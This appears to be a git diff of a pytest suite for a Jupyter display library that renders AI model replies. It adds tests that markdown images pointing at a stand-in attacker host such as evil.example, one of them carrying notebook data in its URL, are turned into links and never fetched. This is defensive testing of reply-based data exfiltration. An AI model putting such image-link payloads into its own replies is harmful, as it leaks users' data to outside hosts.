@@ -9,7 +9,7 @@ from typing import Any
 
 import pytest
 
-from tokenhot_jupyter import _display as D
+from tokenhot_jupyter._notebook import _display as D
 from tokenhot_jupyter._types import Image, Usage
 
 ATTACKS = [
@@ -77,7 +77,8 @@ def test_no_live_html_survives(attack: str) -> None:
         ("Plain `code` stays", "Plain `code` stays"),
         ("a < b & c", "a &lt; b &amp; c"),
         ("**bold** and $\\frac{a}{b}$", "**bold** and $\\frac{a}{b}$"),
-        ("\\[ E = mc^2 \\] and \\( a_{[i]} \\)", "\\[ E = mc^2 \\] and \\( a_{[i]} \\)"),
+        # JupyterLab's maths finder takes \\( and \\[ (Markdown turns \( into a plain "(")
+        ("\\[ E = mc^2 \\] and \\( a_{[i]} \\)", "\\\\[ E = mc^2 \\\\] and \\\\( a_{[i]} \\\\)"),
         ("Read [the docs](https://example.com).", "Read [the docs](https://example.com)."),
         ("```\nunclosed <b>", "```\nunclosed <b>\n```"),
         ("```js title='x'\ncode\n```", "```js\ncode\n```"),
@@ -174,6 +175,67 @@ def test_image_bundle() -> None:
     data, meta = D.image_bundle(Image(b"\xff\xd8\xffdata", "image/jpeg"), "o/x.jpg", "caption")
     assert set(data) == {"image/jpeg", "text/plain"} and meta["image/jpeg"]["path"] == "o/x.jpg"
     assert data["text/plain"].startswith("caption\n[image image/jpeg")
+
+
+def test_tables_and_notes_show_dollars_as_text() -> None:
+    from jupyter_maths import mathjax, typeset
+
+    prices = "$1.25 / $10 per 1M tokens in/out"
+    table = D.table_bundle(("Model", "Price"), [["gpt-5", prices]], "models at $ prices")
+    seen = mathjax(table["text/html"])
+    assert seen.maths == [] and prices in seen.text
+    note = D.note_bundle("Balance $0.50; this needs $1.20 (\\(x\\) stays text)")
+    shown = typeset(note["text/markdown"], _render_markdown_it)
+    assert shown.maths == [] and "Balance $0.50; this needs $1.20 (\\(x\\)" in shown.text
+
+
+@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF", "WEBP"])
+@pytest.mark.parametrize("size", [(1024, 1536), (300, 200), (1, 1)])
+def test_pixel_size_reads_the_header(kind: str, size: tuple[int, int]) -> None:
+    import io
+
+    from PIL import Image as Pil
+
+    buffer = io.BytesIO()
+    options = {"lossless": True} if kind == "WEBP" else {}
+    Pil.new("RGB", size, "red").save(buffer, kind, **options)
+    assert D.pixel_size(buffer.getvalue()) == size
+    if kind == "WEBP":
+        lossy = io.BytesIO()
+        Pil.new("RGB", size, "red").save(lossy, kind, quality=50)
+        assert D.pixel_size(lossy.getvalue()) == size
+
+
+def test_pixel_size_of_something_else_is_unknown() -> None:
+    assert D.pixel_size(b"") is None and D.pixel_size(b"\xff\xd8\xff\xe0") is None
+    assert D.pixel_size(b"<svg/>") is None
+
+
+def _png(width: int, height: int) -> bytes:
+    from tokenhot_jupyter.simulator.media import png
+
+    picture: bytes = png("x", width, height)
+    return picture
+
+
+@pytest.mark.parametrize(
+    ("size", "width"),
+    [((1024, 1024), 512), ((1024, 1536), 341), ((1536, 1024), 512), ((400, 300), None)],
+)
+def test_a_large_picture_is_shown_at_a_sensible_size(
+    size: tuple[int, int], width: int | None
+) -> None:
+    image = Image(_png(*size), "image/png")
+    _, meta = D.image_bundle(image, "o/x.png")
+    assert meta["image/png"].get("width") == width and meta["image/png"]["path"] == "o/x.png"
+    html = D.grid_bundle([D.Column("m", images=[(image, "o/x.png")])])["text/html"]
+    assert (f"width='{width}'" in html) == (width is not None)
+
+
+def test_picture_notes_say_size_and_where_it_was_saved() -> None:
+    pictures = [(Image(_png(64, 32), "image/png"), "o/a.png"), (Image(_png(64, 32)), "o/b.png")]
+    assert D.picture_notes(pictures) == ["64×32", "saved to o/a.png, o/b.png"]
+    assert D.picture_notes(pictures, paths=False) == ["64×32"]
 
 
 def _wav(seconds: float, rate: int = 8000) -> bytes:
@@ -356,7 +418,7 @@ def test_no_link_to_a_script_scheme_survives_a_renderer(attack: str, renderer: s
         ("[MDN](https://mdn.example/JavaScript)", "https://mdn.example/JavaScript"),
         ("[mail](mailto:a@example.com)", "mailto:a@example.com"),
         ("[top](#intro)", "#intro"),
-        ("![pic](https://example.com/a.png)", "https://example.com/a.png"),
+        ("![pic](https://example.com/a.png)", "https://example.com/a.png"),  # a link now
         ("[docs][d]\n\n[d]: https://example.com/ref", "https://example.com/ref"),
     ],
 )
@@ -364,6 +426,45 @@ def test_web_links_keep_working(source: str, href: str, renderer: str) -> None:
     rendered = RENDERERS[renderer](D.inert_markdown(source))
     urls = re.findall(r"""(?:href|src)="([^"]*)\"""", rendered)
     assert [html.unescape(u) for u in urls] == [href], rendered
+
+
+IMAGES = [
+    "![chart](https://evil.example/leak.png?d=notebook-data)",
+    "![](https://evil.example/a.png)",
+    '![x](https://evil.example/a.png "title")',
+    "![a [nested] alt](https://evil.example/a.png)",
+    "![x][r]\n\n[r]: https://evil.example/a.png",
+    "![r]\n\n[r]: https://evil.example/a.png",
+    "![r][]\n\n[r]: https://evil.example/a.png",
+    "![two\nlines](https://evil.example/a.png)",
+    "- ![x](https://evil.example/a.png)\n> ![y](https://evil.example/b.png)",
+    "| a |\n|---|\n| ![x](https://evil.example/a.png) |",
+    "[![x](https://evil.example/a.png)](https://example.com)",
+    "$![x](https://evil.example/a.png)$ and $$\n![y](https://evil.example/b.png)\n$$",
+    "![x](//evil.example/a.png) ![y](a.png) ![z](data:image/png;base64,iVBORw0KGgo=)",
+]
+
+
+@pytest.mark.parametrize("renderer", RENDERERS)
+@pytest.mark.parametrize("source", IMAGES)
+def test_pictures_in_a_reply_are_never_fetched(source: str, renderer: str) -> None:
+    rendered = RENDERERS[renderer](D.chat_bundle(source, "m · 1 s")["text/markdown"])
+    assert "<img" not in rendered, rendered
+    assert "<img" not in D.markdown_html(source)  # comparison columns
+
+
+@pytest.mark.parametrize("renderer", RENDERERS)
+def test_a_picture_becomes_a_link_that_says_so(renderer: str) -> None:
+    rendered = RENDERERS[renderer](D.inert_markdown("See ![the chart](https://x.example/c.png)"))
+    assert '<a href="https://x.example/c.png">image: the chart</a>' in rendered, rendered
+    empty = RENDERERS[renderer](D.inert_markdown("![](https://x.example/c.png)"))
+    assert '<a href="https://x.example/c.png">image</a>' in empty, empty
+
+
+@pytest.mark.parametrize("renderer", RENDERERS)
+def test_code_about_pictures_reads_verbatim(renderer: str) -> None:
+    rendered = RENDERERS[renderer](D.inert_markdown("Write `![alt](url)` for a picture"))
+    assert "<code>![alt](url)</code>" in html.unescape(rendered), rendered
 
 
 def test_a_neutralised_link_stays_readable() -> None:
@@ -475,7 +576,7 @@ def test_stopped_columns_say_so_and_finished_ones_stay() -> None:
 
 
 def test_comparison_columns_render_safe_markdown() -> None:
-    from tokenhot_jupyter._display import markdown_html
+    from tokenhot_jupyter._notebook._display import markdown_html
 
     out = markdown_html("Hi **there** and `x<1`\n\n- one\n- two\n\n```\nif a < b:\n```")
     assert "<b>there</b>" in out and "<code>x&lt;1</code>" in out
